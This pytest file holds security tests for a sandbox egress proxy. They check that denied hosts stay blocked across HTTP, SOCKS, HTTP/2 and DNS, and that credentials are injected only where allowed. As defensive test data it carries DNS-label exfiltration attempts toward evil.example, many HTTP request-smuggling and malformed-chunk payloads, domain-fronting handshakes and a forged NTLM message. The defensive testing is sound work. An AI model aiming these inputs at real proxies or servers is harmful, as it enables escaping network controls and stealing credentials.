# SPDX-License-Identifier: Apache-2.0
"""Attacks that were published against programs of this kind, really sent: the same answer at every
door, what is smuggled in framing and handshakes, and credentials that stay where they belong."""
import base64
import json
import os
import re
import socket
import ssl
import struct
import subprocess
import threading

import pytest

from test_policy_attacks import (Tls, client_hello, connect, in_small_records, send, status,
                                 with_everything)
from test_proxy import (HELLO, Origin, Proxy, SECRET, dns_query, in_namespace, logs, socks,
                        socks_request, start_origin)

pytestmark = pytest.mark.no_sandbox

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


@pytest.fixture(scope="module")
def tls(tmp_path_factory):
    made = Tls(tmp_path_factory.mktemp("tls"))
    yield made
    made.close()


# ---- the same matcher at every door (claude-code#40213, #87381) ----

def literal(name, value):
    """A field of HPACK without compression and table."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def h2_request(authority):
    block = b"\x82\x86\x84" + literal(b":authority", authority)
    return (PREFACE + b"\0\0\0\4\0\0\0\0\0" + struct.pack(">I", len(block))[1:] + b"\1\5\0\0\0\1"
            + block)


@pytest.mark.skipif(os.geteuid() != 0, reason="needs a network namespace")
def test_every_door_asks_the_same_question(tmp_path):
    """A denied host by each way there is; an origin that would answer is where it leads to."""
    server = start_origin()
    port = server.server_address[1]
    proxies = []

    def ask(address, data):
        with socket.create_connection(address, 10) as s:
            s.sendall(data)
            out = b""
            try:
                while part := s.recv(65536):
                    out += part
                    if b"HTTP/1.1" not in out and len(out) > 60:
                        break  # HTTP/2: the frames are enough
            except ConnectionError:
                pass
            return out

    def address_of(proxy, name):
        answer = dns_query(proxy, name)
        return None if answer[3] & 15 else ".".join(map(str, answer[-4:]))

    def doors(proxy, name):
        """What each door answers for this name: True when the origin was reached."""
        where = f"{name}:{port}".encode()
        get = b"GET / HTTP/1.1\r\nHost: " + where + b"\r\nConnection: close\r\n\r\n"
        address = address_of(proxy, name)
        inside = (address or good, port)
        explicit = proxy.http.getsockname()
        return {
            "absolute": b"200 OK" in ask(explicit, get.replace(b"GET /", b"GET http://" + where + b"/")),
            "connect": b"200 OK" in ask(explicit, b"CONNECT " + where + b" HTTP/1.1\r\nHost: " + where
                                        + b"\r\n\r\n" + get),
            "socks": b"200 OK" in socks(proxy, HELLO, socks_request(name.encode(), port), get),
            "transparent": b"200 OK" in ask(inside, get),
            "http2": b"\x88" in ask(inside, h2_request(where))[9:],  # :status 200
            "raw": b"raw" in ask(inside, b"\x01not HTTP\r\n\r\n" + get),
            "dns": address is not None,
        }

    good = None

    def body():
        nonlocal good
        proxy = Proxy(tmp_path, tcp4=socket.create_server(("0.0.0.0", port)))
        proxies.append(proxy)
        pins = {name: f"127.0.0.1:{port}" for name in ("good.example", "evil.example")}
        proxy.configure([f"allow good.example:{port}"], pins=pins)
        good = address_of(proxy, "good.example")
        evil = doors(proxy, "evil.example")
        assert not any(evil.values()), evil
        fine = doors(proxy, "good.example")
        # (The origin speaks neither HTTP/2 nor other protocols.)
        assert {k for k, v in fine.items() if v} == {"absolute", "connect", "socks", "transparent",
                                                     "dns"}, fine
        # What was allowed before changes nothing: the denied name by a tunnel to the allowed one.
        with socket.create_connection(proxy.http.getsockname(), 10) as s:
            s.sendall(f"CONNECT good.example:{port} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
            assert b" 200 " in s.recv(1000)
            evil = doors(proxy, "evil.example")
            assert not any(evil.values()), evil

    try:
        in_namespace(body)
    finally:
        server.shutdown()
        for proxy in proxies:
            proxy.close()


def test_a_relay_inside_gets_no_further(tmp_path):
    """A program of the sandbox that passes CONNECT on to the proxy opens nothing."""
    proxy = Proxy(tmp_path)
    proxy.configure(["allow good.example"])
    relay = socket.create_server(("127.0.0.1", 0))

    def serve():
        with relay.accept()[0] as client:
            with socket.create_connection(proxy.http.getsockname(), 10) as up:
                up.sendall(client.recv(4096))
                client.sendall(up.recv(4096))

    thread = threading.Thread(target=serve)
    thread.start()
    try:
        with socket.create_connection(relay.getsockname(), 10) as s:
            s.sendall(b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n")
            assert status(s.recv(4096)) == 403
    finally:
        thread.join()
        relay.close()
        proxy.close()


@pytest.mark.parametrize("opening", ["connect", "socks"])
def test_what_a_tunnel_carries_must_be_for_its_host(tls, opening):
    """Domain fronting through tunnels that no rule looks into: SNI, Host and target must agree."""
    tls.configure("allow api.example")
    explicit = tls.proxy.http.getsockname()

    def tunnel():
        s = socket.create_connection(explicit, 10)
        if opening == "connect":
            s.sendall(b"CONNECT api.example:443 HTTP/1.1\r\nHost: api.example:443\r\n\r\n")
            assert b" 200 " in s.recv(1000)
        else:
            s.sendall(HELLO)
            assert s.recv(2) == b"\5\0"
            s.sendall(socks_request(b"api.example", 443))
            assert s.recv(10)[:2] == b"\5\0"
        return s

    for name, opened in (("api.example", True), ("evil.example", False), (None, False)):
        with tunnel() as s:
            s.sendall(client_hello(name))
            assert (s.recv(1000)[:1] == b"\x16") == opened, name
    assert tls.proxy.records()[-1]["reason"] == "sni-mismatch"
    for head in (b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n",
                 b"\r\nGET / HTTP/1.1\r\nHost: evil.example\r\n\r\n",
                 b"GET http://evil.example/ HTTP/1.1\r\nHost: api.example\r\n\r\n",
                 b"GET / HTTP/1.1 \r\nHost: evil.example\r\n\r\n",
                 b"G_T / http/1.1\r\nHost: evil.example\r\n\r\n",
                 b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n"):
        with tunnel() as s:
            s.sendall(head)
            assert status(s.recv(1000)) in (400, 403), head
    with tunnel() as s:
        s.sendall(h2_request(b"evil.example"))
        data = b""
        while len(data) < 80 and (part := s.recv(1000)):
            data += part
        assert b"host-mismatch" in data  # (the text of the answer; its status is 421)


# ---- names ----

def test_lookups_of_the_sandbox_never_leave_the_host(tmp_path):
    """CVE-2025-55284: data in the labels of a name, also below one that is allowed."""
    asked = []

    def answers(name):
        asked.append(name)
        return ["192.0.2.1"]

    def body(world):
        world.proxy.configure(["allow **.allowed.example"])
        data = base64.b32encode(os.urandom(30)).decode().strip("=").lower()
        for name in (f"{data}.evil.example", f"{data}.data.allowed.example", "evil.example"):
            for kind in (1, 28, 16, 5, 255):  # A, AAAA, TXT, CNAME, ANY
                dns_query(world.proxy, name, kind)
        assert send(world.proxy, b"GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n")
        assert asked == []
        # A connection that is allowed is what resolves its name, and only that.
        send(world.proxy, b"GET http://a.allowed.example/ HTTP/1.1\r\nHost: a.allowed.example\r\n"
                          b"Connection: close\r\n\r\n")
        assert set(asked) == {"a.allowed.example"}

    with_everything(tmp_path, body, answers=answers)


# ---- handshakes ----

@pytest.mark.parametrize("extra,opened", [(15000, True), (17000, False), (60000, False)])
def test_a_large_hello(tls, extra, opened):
    """Up to 16 KiB, in as many records as it takes; what is larger is refused, not passed on."""
    tls.configure("allow api.example method GET")
    body = client_hello("api.example")[5:]
    # An unknown extension at the end; two lengths grow with it.
    padding = struct.pack(">HH", 0xfafa, extra) + bytes(extra)
    at = 4 + 2 + 32  # the extensions come after version, random, session, ciphers, compression
    at += 1 + body[at]
    at += 2 + int.from_bytes(body[at:at + 2], "big")
    at += 1 + body[at]
    length = int.from_bytes(body[at:at + 2], "big") + len(padding)
    grown = body[4:at] + struct.pack(">H", length) + body[at + 2:] + padding
    grown = body[:1] + struct.pack(">I", len(grown))[1:] + grown
    s, _ = connect(tls.proxy, "api.example:443")
    with s:
        s.sendall(in_small_records(b"\x16\x03\x01\0\0" + grown, 8000))
        answer = s.recv(1000)
    assert (answer[:1] == b"\x16") == opened, answer[:20]
    if not opened:
        assert tls.proxy.records()[-1]["reason"] == "bad-hello"


class Pair:
    """A TLS client whose bytes the test sends itself."""

    def __init__(self, tls, authority="api.example:443"):
        self.into, self.out = ssl.MemoryBIO(), ssl.MemoryBIO()
        context = ssl.create_default_context(cafile=tls.ca_file)
        self.tls = context.wrap_bio(self.into, self.out, server_hostname="api.example")
        self.sock, _ = connect(tls.proxy, authority)

    def step(self, action):
        while True:
            try:
                return action()
            except ssl.SSLWantReadError:
                if self.out.pending:
                    self.sock.sendall(self.out.read())
                data = self.sock.recv(65536)
                if not data:
                    self.into.write_eof()
                self.into.write(data)


def test_data_in_one_packet_with_the_end_of_the_handshake(tls):
    """A client that sends its request with Finished waits for nothing else."""
    tls.configure("allow api.example method GET")
    pair = Pair(tls)
    with pair.sock:
        pair.step(pair.tls.do_handshake)
        # Finished is still in `out`.
        pair.tls.write(b"GET /early HTTP/1.1\r\nHost: api.example\r\nConnection: close\r\n\r\n")
        assert pair.out.pending
        pair.sock.sendall(pair.out.read())
        assert pair.step(lambda: pair.tls.read(1000)).startswith(b"HTTP/1.1 200")


def test_a_request_in_records_of_single_bytes(tls):
    tls.configure("allow api.example method GET")
    pair = Pair(tls)
    with pair.sock:
        pair.step(pair.tls.do_handshake)
        for byte in b"GET /single HTTP/1.1\r\nHost: api.example\r\nConnection: close\r\n\r\n":
            pair.tls.write(bytes([byte]))
            pair.sock.sendall(pair.out.read())
        assert pair.step(lambda: pair.tls.read(1000)).startswith(b"HTTP/1.1 200")


def test_no_data_before_the_handshake_ends(tls, tmp_path):
    """0-RTT could be replayed: it is never accepted, and the request goes on without it."""
    tls.configure("allow api.example method GET")
    session, early = tmp_path / "session", tmp_path / "early"
    early.write_bytes(b"GET /zero HTTP/1.1\r\nHost: api.example\r\nConnection: close\r\n\r\n")
    proxy = "%s:%d" % tls.proxy.http.getsockname()
    base = ["openssl", "s_client", "-proxy", proxy, "-connect", "api.example:443", "-servername",
            "api.example", "-CAfile", str(tls.ca_file), "-tls1_3", "-ign_eof"]
    with logs(tls.proxy, target="/zero"):
        first = subprocess.run([*base, "-sess_out", str(session)], input=early.read_bytes(),
                               capture_output=True, timeout=30, check=False)
    assert b"Verify return code: 0" in first.stdout and session.exists(), first
    before = len(tls.proxy.records(0))
    again = subprocess.run([*base, "-sess_in", str(session), "-early_data", str(early)],
                           input=early.read_bytes().replace(b"/zero", b"/after"),
                           capture_output=True, timeout=30, check=False)
    said = (again.stdout + again.stderr).decode(errors="replace")
    # A ticket that allows none is said so by the client before it sends.
    assert "Early data was accepted" not in said
    assert {r["target"] for r in tls.proxy.records(before + 1)[before:]} == {"/after"}


def test_reset_while_a_handshake_is_under_way(tls):
    tls.configure("allow api.example method GET")
    hello = client_hello("api.example")
    for cut in (1, 5, 60, len(hello) - 1, len(hello)):
        s, _ = connect(tls.proxy, "api.example:443")
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        s.sendall(hello[:cut])
        s.close()
    assert tls.curl("https://api.example/").stdout == "200"


def test_leaf_keys_and_serials_are_not_to_be_guessed(tmp_path):
    """stripe/goproxy#36: two proxies of one CA have nothing in common."""
    seen = []
    ca = None
    for i in range(2):
        folder = tmp_path / str(i)
        folder.mkdir()
        proxy = Proxy(folder)
        try:
            proxy.configure([])
            ca = ca or proxy.call({"op": "ca"})
            proxy.configure(["allow a.example method GET", "allow b.example method GET"],
                            ca={k: ca[k] for k in ("cert_pem", "key_pem")})
            for name in ("a.example", "b.example"):
                raw, _ = connect(proxy, f"{name}:443")
                context = ssl._create_unverified_context()
                with context.wrap_socket(raw, server_hostname=name) as s:
                    pem = ssl.DER_cert_to_PEM_cert(s.getpeercert(True))
                text = subprocess.run(["openssl", "x509", "-noout", "-serial", "-pubkey"], input=pem,
                                      capture_output=True, text=True, check=True).stdout
                serial, _, key = text.partition("\n")
                seen.append((serial, key))
        finally:
            proxy.close()
    assert len({serial for serial, _ in seen}) == 4 and all(len(s) > 7 + 16 for s, _ in seen)
    assert {key for _, key in seen[:2]}.isdisjoint({key for _, key in seen[2:]})


# ---- framing ----

AMBIGUOUS = [
    "Content-Length: 5\r\nContent-Length: 5", "Content-Length: 5, 5", "Content-Length: 5 5",
    "Content-Length: -5", "Content-Length: 5.0", "Content-Length: 1e1", "Content-Length: \t",
    "Content-Length: 99999999999999999999", "Content-Length: \uff15", "Content_Length: 5",
    "Content-Length: 5\r\nTransfer_Encoding: chunked", "content-length:5\r\nCONTENT-LENGTH:6",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", "Transfer-Encoding: identity",
    "Transfer-Encoding: gzip, chunked", "Transfer-Encoding: chunked, chunked",
    "Transfer-Encoding: \x0bchunked", "Transfer-Encoding: chunked\x00", "Transfer-Encoding: ",
    "Transfer-Encoding: \"chunked\"", "Transfer-Encoding: chunked;q=1", "Transfer-Encoding\t: chunked",
    " Transfer-Encoding: chunked", "X: a\r\n\tTransfer-Encoding: chunked",
    "X: a\rTransfer-Encoding: chunked", "X: a\r\r\nTransfer-Encoding: chunked",
    "X\x00: a", ": a", "X a: b", "X", "\x7f: a", "Host: other.example"]


@pytest.fixture(scope="module")
def smuggled():
    """An origin that notes every request it reads."""
    class Noting(Origin):
        def parse_request(self):
            self.server.seen.append(self.raw_requestline)
            return super().parse_request()

    server = start_origin(handler=Noting)
    server.seen = []
    yield server
    server.shutdown()


@pytest.fixture(scope="module")
def plain(tmp_path_factory, smuggled):
    proxy = Proxy(tmp_path_factory.mktemp("plain"))
    proxy.configure(["allow good.example"], pins={
        "good.example": f"127.0.0.1:{smuggled.server_address[1]}"})
    yield proxy
    proxy.close()


@pytest.mark.parametrize("version", ["1.1", "1.0"])
@pytest.mark.parametrize("fields", AMBIGUOUS)
def test_ambiguous_heads_reach_nobody(plain, smuggled, fields, version):
    smuggled.seen.clear()
    second = "GET http://good.example/smuggled HTTP/1.1\r\nHost: good.example\r\n\r\n"
    data = (f"POST http://good.example/ HTTP/{version}\r\nHost: good.example\r\n{fields}\r\n\r\n"
            f"0\r\n\r\n{second}")
    assert status(send(plain, data.encode())) == 400
    assert smuggled.seen == []


@pytest.mark.parametrize("line", [
    "GET  http://good.example/ HTTP/1.1", "GET http://good.example/ HTTP/1.1 ",
    "GET\thttp://good.example/ HTTP/1.1", " GET http://good.example/ HTTP/1.1",
    "GET http://good.example/ HTTP/1.2", "GET http://good.example/ HTTP/2.0",
    "GET http://good.example/ http/1.1", "GET http://good.example/ HTTP/01.1",
    "GET http://good.example/", "GET http://good.example/ a HTTP/1.1", "G=T", "GET",
    "G\0T http://good.example/ HTTP/1.1", "GET http://good.example/\0 HTTP/1.1",
    "GET http://good.example/\x80 HTTP/1.1", "GET http:/good.example/ HTTP/1.1",
    "GET http:///x HTTP/1.1", "GET ftp://good.example/ HTTP/1.1", "GET good.example HTTP/1.1",
    "GET http://good.example/#x HTTP/1.1", "GET http://u:p@good.example/ HTTP/1.1"])
def test_odd_request_lines_reach_nobody(plain, smuggled, line):
    smuggled.seen.clear()
    answer = send(plain, f"{line}\r\nHost: good.example\r\n\r\n".encode("latin-1"))
    assert status(answer) == 400 and smuggled.seen == []


@pytest.mark.parametrize("body", [
    "5\r\nhello0\r\n\r\n", "5\nhello\n0\n\n", "5\r\nhelloX\r\n0\r\n\r\n", "-5\r\nhello\r\n0\r\n\r\n",
    "0x5\r\nhello\r\n0\r\n\r\n", " 5\r\nhello\r\n0\r\n\r\n", "5 \r\nhello\r\n0\r\n\r\n", "\r\n",
    "5;GET / HTTP/1.1\r\nhello\r\n0\r\n\r\n", "5;\r\nhello\r\n0\r\n\r\n",
    "5;a=\"\r\nhello\r\n0\r\n\r\n", "5;a=b=c\r\nhello\r\n0\r\n\r\n", "5;a\rb\r\nhello\r\n0\r\n\r\n", "5;a\nb\r\nhello\r\n0\r\n\r\n", "g\r\n", "5\r\rhello",
    "0\r\nAuthorization: Bearer mine\r\n\r\n", "0\r\nContent-Length: 5\r\n\r\n",
    "0\r\nTransfer-Encoding: chunked\r\n\r\n", "0\r\nHost: evil.example\r\n\r\n",
    "0\r\nX-Api-Key: mine\r\n\r\n", "0\r\n A: b\r\n\r\n", "0\r\nA : b\r\n\r\n", "0\r\nA\r\n\r\n",
    "0\r\nA: b\0\r\n\r\n", "0\r\nA: b\n\r\n"])
def test_malformed_chunks_end_the_connection(plain, smuggled, body):
    smuggled.seen.clear()
    second = "GET http://good.example/smuggled HTTP/1.1\r\nHost: good.example\r\n\r\n"
    answer = send(plain, ("POST http://good.example/ HTTP/1.1\r\nHost: good.example\r\n"
                          "Transfer-Encoding: chunked\r\n\r\n" + body + second).encode())
    assert b" 200 " not in answer
    assert not any(b"smuggled" in line for line in smuggled.seen)


def test_extensions_of_chunks_and_a_body_of_get_go_no_further(plain):
    raw = []
    listener = socket.create_server(("127.0.0.1", 0))

    def serve():
        with listener.accept()[0] as peer:
            peer.settimeout(30)
            data = b""
            while not data.endswith(b"0\r\n\r\n"):
                data += peer.recv(65536)
            raw.append(data)
            peer.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

    thread = threading.Thread(target=serve)
    thread.start()
    port = listener.getsockname()[1]
    try:
        plain.configure(["allow raw.example"], pins={"raw.example": f"127.0.0.1:{port}"})
        answer = send(plain, b"GET http://raw.example/ HTTP/1.1\r\nHost: raw.example\r\n"
                             b"Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
                             b"5;a=\"GET / HTTP/1.1\";b=c;d\r\nhello\r\n0;x\r\n\r\n")
        assert status(answer) == 200
    finally:
        thread.join()
        listener.close()
    assert raw[0].partition(b"\r\n\r\n")[2] == b"5\r\nhello\r\n0\r\n\r\n"


# ---- credentials stay where they belong ----

class Bound:
    """api.example by TLS, with a credential for a part of its paths."""

    def __init__(self, folder):
        self.tls = Tls(folder)
        self.rule = {"id": "i1", "service": "api", "kit": "k", "domain": "api.example",
                     "header": "Authorization", "format": "Bearer %s", "mode": "overwrite",
                     "paths": ["/bound/**"], "secret": SECRET}

    def configure(self, **changes):
        self.tls.proxy.configure(
            ["allow api.example", "allow plain.example"], inject=[{**self.rule, **changes}],
            pins={**self.tls.pins, "plain.example": self.tls.pins["api.example"]},
            ca={k: self.tls.ca[k] for k in ("cert_pem", "key_pem")})

    def open(self):
        raw, _ = connect(self.tls.proxy, "api.example:443")
        context = ssl.create_default_context(cafile=self.tls.ca_file)
        return context.wrap_socket(raw, server_hostname="api.example")


@pytest.fixture(scope="module")
def bound(tmp_path_factory):
    made = Bound(tmp_path_factory.mktemp("bound"))
    yield made
    made.tls.close()


def answers(s, count):
    """The bodies of so many answers, as what the origin saw."""
    data, found = b"", []
    while len(found) < count:
        part = s.recv(65536)
        assert part, data
        data += part
        while (head := re.match(rb"HTTP/1.1 (\d+).*?Content-Length: (\d+).*?\r\n\r\n", data, re.S)):
            size = int(head[2])
            if len(data) < head.end() + size:
                break
            found.append(json.loads(data[head.end():head.end() + size])
                         if head[1] == b"200" else int(head[1]))
            data = data[head.end() + size:]
    return found


def test_a_pipelined_request_gets_nothing_of_the_one_before(bound):
    bound.configure()
    with bound.open() as s:
        s.sendall(b"".join(b"GET %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (path, host) for path, host in (
            (b"/bound/a", b"api.example"), (b"/other", b"api.example"),
            (b"/bound/b", b"api.example"), (b"/bound/../other", b"api.example"))))
        sent = [a["headers"].get("Authorization") for a in answers(s, 4)]
        assert sent == [f"Bearer {SECRET}", None, f"Bearer {SECRET}", None]
        s.sendall(b"GET /bound/a HTTP/1.1\r\nHost: plain.example\r\n\r\n")
        assert answers(s, 1) == [403]


def test_no_trailer_carries_what_a_rule_sets(bound):
    """Beside the names that every rule knows: some servers put trailers to the fields of the head."""
    head = (b"POST /bound/x HTTP/1.1\r\nHost: api.example\r\nTransfer-Encoding: chunked\r\n\r\n"
            b"1\r\nx\r\n0\r\n")
    bound.configure(header="X-Company-Key", format="%s")
    for trailer, passes in ((b"X-Other: a", True), (b"X-Company-Key: mine", False),
                            (b"A: b\r\nx_company_key: mine", False)):
        with bound.open() as s:
            s.sendall(head + trailer + b"\r\n\r\n")
            assert s.recv(65536).startswith(b"HTTP/1.1 200") is passes
    bound.configure()
    with bound.open() as s:
        s.sendall(head + b"X-Company-Key: mine\r\n\r\n")  # nothing special here
        assert s.recv(65536).startswith(b"HTTP/1.1 200")


@pytest.mark.parametrize("fields,target", [
    ("X-HTTP-Method-Override: DELETE\r\n", "/bound/x"), ("", "/bound/x?_method=DELETE")])
def test_a_credential_for_one_method_is_not_lent_to_another(bound, fields, target):
    request = f"GET {target} HTTP/1.1\r\nHost: api.example\r\n{fields}\r\n".encode()
    bound.configure(methods=["GET"])
    with bound.open() as s:
        s.sendall(request)
        assert answers(s, 1) == [403]
    bound.configure()
    with bound.open() as s:
        s.sendall(request)
        assert answers(s, 1)[0]["headers"]["Authorization"] == f"Bearer {SECRET}"


@pytest.mark.parametrize("cut", [1, 3, 7])
def test_a_placeholder_split_over_records(bound, cut):
    """Wherever it is cut: in a field, in Basic, in a body, it is found."""
    bound.configure(mode="placeholder", placeholder="ph-12345678", in_body=True, paths=[])
    basic = base64.b64encode(b"me:ph-12345678").decode()
    head = (f"POST / HTTP/1.1\r\nHost: api.example\r\nX-Mine: ph-12345678\r\n"
            f"Authorization: Basic {basic}\r\nContent-Length: 23\r\n\r\n"
            "<ph-12345678> ph-123456").encode()
    with bound.open() as s:
        for at in range(0, len(head), cut):
            s.sendall(head[at:at + cut])
        seen = answers(s, 1)[0]
    assert seen["headers"]["X-Mine"] == SECRET
    assert base64.b64decode(seen["headers"]["Authorization"][6:]).decode() == f"me:{SECRET}"
    assert seen["body"] == f"<{SECRET}> ph-123456"


def test_other_spellings_of_a_placeholder_are_not_it(bound):
    """Escaped, encoded or to another host: what it stands for does not come out."""
    bound.configure(mode="placeholder", placeholder="ph-12345678", in_body=True, in_url=True, paths=[])
    spellings = ["ph%2D12345678", "ph\\u002d12345678", "PH-12345678", "ph-1234 5678",
                 base64.b64encode(b"ph-12345678").decode(), "ph-1234567"]
    with bound.open() as s:
        for text in spellings:
            body = text.encode()
            s.sendall(f"POST /x HTTP/1.1\r\nHost: api.example\r\nX-Mine: {text}\r\n"
                      f"Content-Length: {len(body)}\r\n\r\n".encode() + body)
            seen = answers(s, 1)[0]
            assert SECRET not in json.dumps(seen), text
            assert seen["body"] == text


# ---- logins that hold for a connection ----

class Ntlm(Origin):
    """What a connection has signed in as stays for its later requests, as such servers do."""

    def do_GET(self):
        self.read_body()
        said = self.headers.get("Authorization", "")
        message = base64.b64decode(said[5:]) if said.startswith("NTLM ") else b""
        kind = message[8:12] if message.startswith(b"NTLMSSP\0") else b""
        challenge = ""
        if kind == b"\1\0\0\0":
            # Type 2: no target, the flags of the client's own kind, a fixed challenge.
            challenge = " " + base64.b64encode(
                b"NTLMSSP\0" + struct.pack("<IHHIIQQHHI", 2, 0, 0, 56, 0x00008205,
                                           0x0123456789abcdef, 0, 0, 0, 56) + bytes(8)).decode()
        elif kind == b"\3\0\0\0":
            length, _, offset = struct.unpack_from("<HHI", message, 36)
            self.user = message[offset:offset + length].replace(b"\0", b"").decode()
        user = getattr(self, "user", None)
        self.send_response(200 if user else 401)
        if not user:
            self.send_header("WWW-Authenticate", "NTLM" + challenge)
        body = f"{user} on {id(self)}\n".encode()
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET


@pytest.mark.parametrize("kept", [False, True])
def test_a_login_of_a_connection_serves_no_other(tmp_path, kept):
    """A real client signs in by NTLM; its connection to the origin is used by nobody else."""
    server = start_origin(handler=Ntlm)
    proxy = Proxy(tmp_path)
    url = "http://corp.example/"
    try:
        proxy.configure(["allow corp.example"],
                        pins={"corp.example": f"127.0.0.1:{server.server_address[1]}"})
        assert proxy.curl("-w", "%{http_code}", url).stdout.endswith("401")
        config = tmp_path / "curl"
        # Three requests on one connection of the client: they share one of the origin's.
        config.write_text("\n".join(f"url = {url}{i}" for i in range(3)))
        signed = proxy.curl("--ntlm", "-u", "alice:pass", "-K", str(config))
        said = signed.stdout.split("\n")[:-1]
        assert len(set(said)) == 1 and said[0].startswith("alice on "), signed
        if kept:  # while the client that signed in is still there
            with socket.create_connection(proxy.http.getsockname(), 10) as s:
                ask = (b"GET http://corp.example/ HTTP/1.1\r\nHost: corp.example\r\n"
                       b"Authorization: NTLM %s\r\n\r\n")
                user = "bob".encode("utf-16-le")
                third = (b"NTLMSSP\0" + struct.pack("<I", 3) + struct.pack("<HHI", 0, 0, 64) * 3
                         + struct.pack("<HHI", len(user), len(user), 64)
                         + struct.pack("<HHI", 0, 0, 64) * 2 + struct.pack("<I", 0) + user)
                s.sendall(ask % base64.b64encode(third))
                mine = s.recv(65536)
                while b"\n" not in mine.partition(b"\r\n\r\n")[2]:
                    mine += s.recv(65536)
                assert b"bob on " in mine
                for method in ("GET", "POST"):
                    other = proxy.curl("-X", method, "-w", "%{http_code}", url).stdout
                    assert other.endswith("401"), other
                s.sendall(b"GET http://corp.example/ HTTP/1.1\r\nHost: corp.example\r\n\r\n")
                again = s.recv(65536)
                while b"\n" not in again.partition(b"\r\n\r\n")[2]:
                    again += s.recv(65536)
                assert again.partition(b"\r\n\r\n")[2] == mine.partition(b"\r\n\r\n")[2]
        for _ in range(5):
            assert proxy.curl("-w", "%{http_code}", url).stdout.endswith("401")
    finally:
        proxy.close()
        server.shutdown()
